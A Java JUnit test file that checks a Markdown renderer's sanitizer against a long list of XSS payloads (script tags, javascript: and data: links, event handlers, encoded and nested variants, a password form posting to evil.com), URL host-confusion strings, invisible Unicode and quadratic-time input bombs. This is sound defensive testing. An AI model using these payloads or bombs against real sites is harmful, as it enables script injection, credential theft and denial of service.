package app.teahouse.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileMarkdownTest {
    private static final Markdown MARKDOWN = new Markdown();
    private static final int LENGTH = 200_000;

    /** Most take a tenth of a second; what grows with the square of the length takes minutes. */
    private static final Duration MOST = Duration.ofSeconds(2);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.com/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\\x20type=\"text/javascript\">alert(1);</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
                "<img src=`javascript:alert(1)`>",
                "<img src=\"jav&#x09;ascript:alert(1);\">",
                "<img src=\" &#14; javascript:alert(1);\">",
                "<img dynsrc=\"javascript:alert(1)\">",
                "<svg onload=alert(1)><circle></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<body onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"https://a.com\" onmouseover=\"alert(1)\">x</a>",
                "<a href=https://a.com target=_blank style=\"position:fixed\">x</a>",
                "[x](javascript:alert(1))",
                "[x](javascript&#58;alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x][y]\n\n[y]: javascript:alert(1)",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![\" onerror=\"alert(1)](https://a.com/x.png)",
                "![x](https://a.com/x.png \"\\\" onerror=\\\"alert(1)\")",
                "[a](https://a.com/\"onmouseover=\"alert(1))",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<style>@import 'https://evil.com/x.css';</style>",
                "<link rel=stylesheet href=https://evil.com/x.css>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1);//\">",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<form action=https://evil.com><input type=password><button>x</button></form>",
                "<input type=checkbox onfocus=alert(1) autofocus>",
                "<textarea></p><script>alert(1)</script></textarea>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<template><script>alert(1)</script></template>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video src=x onerror=alert(1)></video>",
                "<audio src=\"javascript:alert(1)\" autoplay></audio>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<p id=csrf class=\"modal\" hx-get=\"/x\" data-hx-post=\"/y\">x</p>",
                "```\" onmouseover=\"alert(1)\nx\n```",
                "# x\" onclick=\"alert(1)",
                "| a\" onclick=\"alert(1) |\n|---|\n| x |",
                "@\"><script>alert(1)</script>",
            })
    void no_attack_gets_through(String attack) {
        var html = render(attack);
        var tags = html.replaceAll(">[^<]*<", "><");

        assertThat(tags.toLowerCase(Locale.ROOT))
                .doesNotContain(
                        "<script",
                        "<style",
                        "<svg",
                        "<math",
                        "<iframe",
                        "<form",
                        "<textarea",
                        "<object",
                        "<embed",
                        "<link",
                        "<meta")
                .doesNotContain(
                        "<base",
                        "<template",
                        "javascript:",
                        "vbscript:",
                        "data:",
                        "style=",
                        "target=",
                        "hx-",
                        "modal",
                        "csrf")
                .doesNotContainPattern("\\son[a-z]+\\s*=(?![^<>\"]*\"[^<>]*>)")
                .doesNotContainPattern("<img[^>]*src=\"?x");
    }

    @Test
    void our_own_parts_cannot_be_forged() {
        assertThat(render("<a class=\"mention\" href=\"https://evil.com\">@owner</a>"))
                .doesNotContain("mention");
        assertThat(render("<p class=\"link-card\" id=\"h-x\" role=\"alert\" tabindex=\"1\">x</p>"))
                .isEqualTo("<p>x</p>\n");
        assertThat(render("<h2 id=\"main\">x</h2>")).isEqualTo("<p>x</p>\n");
        assertThat(render("<input type=\"checkbox\" disabled><label class=\"task\">x</label>"))
                .isEqualTo("<p>x</p>\n");
        assertThat(render("<input disabled=\"type\" checked=\"type\">x <a title=\"href\">y</a>"))
                .isEqualTo("<p>x y</p>\n");
        assertThat(render("<audio src=\"/f/x\" data-file=\"y\"></audio>")).doesNotContain("audio");
    }

    @Test
    void the_host_that_is_shown_is_the_host_that_is_asked() {
        assertHost("https://good.com@evil.com/", "evil.com");
        assertHost("https://good.com\\@evil.com/", "evil.com");
        assertHost("https://good.com:80@evil.com:443/x@y", "evil.com");
        assertHost("https://evil.com/https://good.com", "evil.com");
        assertHost("https://evil.com#@good.com", "evil.com");
        assertThat(Addresses.safe("https://")).isEmpty();
        assertThat(Addresses.safe("https:///x")).isEmpty();
    }

    @Test
    void what_cannot_be_seen_is_taken_out() {
        assertThat(render("a\u202Eb\u2066c\u0000d\u0007e\uFEFFf\uFFFEg")).isEqualTo("<p>abcdefg</p>\n");
        assertThat(render("a&#x202E;b <i title=\"&#x202E;\">c</i> `d&#8238;\u202E`"))
                .doesNotContain("\u202E");
        assertThat(render("a\uD800b")).isEqualTo("<p>a\uFFFDb</p>\n");
        assertThat(render("👨‍👩‍👧‍👦 ok‎")).contains("👨‍👩‍👧‍👦 ok‎");
    }

    static Stream<String> bombs() {
        var units = Stream.of(
                "[",
                "![",
                "*",
                "**",
                "* ",
                "_",
                "~~",
                ">",
                "> ",
                "<",
                "`",
                "`` ` ",
                "\\",
                "&",
                "|",
                "-",
                "- ",
                "#",
                "# a\n",
                "\n",
                " ",
                "@",
                "@a ",
                "@小明",
                "[a](",
                "[a](b",
                "![a](b)",
                "[a][b]",
                "[a]: b\n",
                "[a]\n",
                "a**b",
                "*a ",
                " a*",
                "**a* ",
                "*a_ ",
                "a*_~~",
                "(",
                ")",
                "https://",
                "https://a.com/(",
                "www.",
                "http://a)",
                "<a ",
                "<a x",
                "<div>",
                "</div>",
                "<b>",
                "<p>",
                "<table>",
                "<table><tr><td>",
                "<ul><li>",
                "<!--",
                "<!-- -->",
                "<?",
                "<![CDATA[",
                "1. ",
                "- a\n",
                "  - a\n",
                "\t",
                "```",
                "~~~\n",
                "```\n",
                "|a",
                "a|b\n-|-\n",
                "|\n",
                "![[",
                "[![a](b)",
                "]",
                "](",
                "](a)",
                "\"",
                "'",
                "=\n",
                "a\n",
                "a\n=\n",
                "&lt;",
                "&#",
                "\u202E",
                "😀",
                "，",
                "。**",
                "x@",
                "&#x202E;",
                "<img src=https://a.com/x>",
                "<a href=https://a.com>",
                "<iframe src=https://a.com>",
                "<i><b>");
        var structures = Stream.of(
                "*a ".repeat(LENGTH / 6) + " b*".repeat(LENGTH / 6),
                "**a ".repeat(LENGTH / 8) + " b**".repeat(LENGTH / 8),
                "[".repeat(LENGTH / 2) + "a](b)".repeat(LENGTH / 10),
                "[".repeat(LENGTH / 2) + "]".repeat(LENGTH / 2),
                "![".repeat(LENGTH / 4) + "](a)".repeat(LENGTH / 8),
                "|" + "a|".repeat(LENGTH / 8) + "\n|" + "-|".repeat(LENGTH / 8) + "\n" + "|\n".repeat(LENGTH / 4),
                "|" + "a|".repeat(100) + "\n|" + "-|".repeat(100) + "\n" + "a\n".repeat(LENGTH / 2),
                ("|" + "a|".repeat(90) + "\n|" + "-|".repeat(90) + "\n" + "a\n".repeat(90) + "\n").repeat(LENGTH / 550),
                "<a" + " x".repeat(LENGTH / 2) + ">",
                "<a" + " x=y".repeat(LENGTH / 4) + ">b</a>",
                "<div>".repeat(LENGTH / 10) + "a" + "</div>".repeat(LENGTH / 10),
                "> ".repeat(LENGTH / 2) + "a",
                ("> ".repeat(50) + "a\n").repeat(LENGTH / 102),
                "`".repeat(LENGTH / 2) + " " + "`".repeat(LENGTH / 2 - 1),
                Stream.iterate("`", s -> s + "`").limit(600).reduce("", (a, b) -> a + " " + b),
                "https://a.com/" + "(".repeat(LENGTH / 2) + ")".repeat(LENGTH / 2),
                "[a](" + "(".repeat(LENGTH / 2) + ")".repeat(LENGTH / 2) + ")",
                "[a]: <" + "b".repeat(LENGTH),
                "@" + "明".repeat(LENGTH),
                "- ".repeat(LENGTH / 2) + "a",
                "<".repeat(LENGTH / 2) + "a>".repeat(LENGTH / 4),
                "*".repeat(LENGTH / 2) + "a" + "*".repeat(LENGTH / 2),
                "a" + " ".repeat(LENGTH) + "b",
                "a" + "\u00a0\n".repeat(LENGTH / 2) + "b",
                "[a](/b)*c* ".repeat(LENGTH / 11),
                "*[a*](/b) ".repeat(LENGTH / 10),
                "[a]: /b\n\n" + "[a]".repeat(LENGTH / 3));
        return Stream.concat(units.map(unit -> unit.repeat(LENGTH / unit.length())), structures);
    }

    /** Warm, or the first bomb pays for loading everything. */
    @BeforeAll
    static void warm() {
        MARKDOWN.render("# a\n\n*b* [c](d) | @e\n\n- [ ] f\n\n<u>g</u>".repeat(200), new SmallCircle());
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("bombs")
    void no_text_takes_long(String bomb) {
        // The processor's time, not the clock's: other tests may be running.
        var thread = ManagementFactory.getThreadMXBean();
        var began = thread.getCurrentThreadCpuTime();
        var rendered = MARKDOWN.render(bomb, new SmallCircle());
        var took = Duration.ofNanos(thread.getCurrentThreadCpuTime() - began);

        assertThat(took).as(() -> bomb.substring(0, 40)).isLessThan(MOST);
        assertThat(rendered.html().length()).isLessThan(LENGTH * 110);
    }

    private static void assertHost(String address, String host) {
        assertThat(Addresses.safe(address).flatMap(Addresses::host)).hasValue(host);
    }

    private static String render(String text) {
        return MARKDOWN.render(text, new SmallCircle()).html();
    }

    /** One address of two thousand letters, and twenty-five thousand links to it by a label of one. */
    @Test
    void a_long_address_named_again_and_again_does_not_make_a_page_of_megabytes() {
        var definition = "[a]: https://example.com/" + "z".repeat(1900) + "\n\n";

        for (var link : new String[] {"[a] ", "![a] "}) {
            var html = MARKDOWN.render(definition + link.repeat(20_000), Context.none())
                    .html();

            assertThat(html.length()).isLessThan(3_000_000);
            assertThat(html).contains("https://example.com/zzz").containsPattern("a(</span>)?</p>\\n$");
        }
        assertThat(MARKDOWN.render(definition + "[a] ".repeat(5), Context.none())
                        .html()
                        .split("href=", -1))
                .hasSize(6);
    }
}
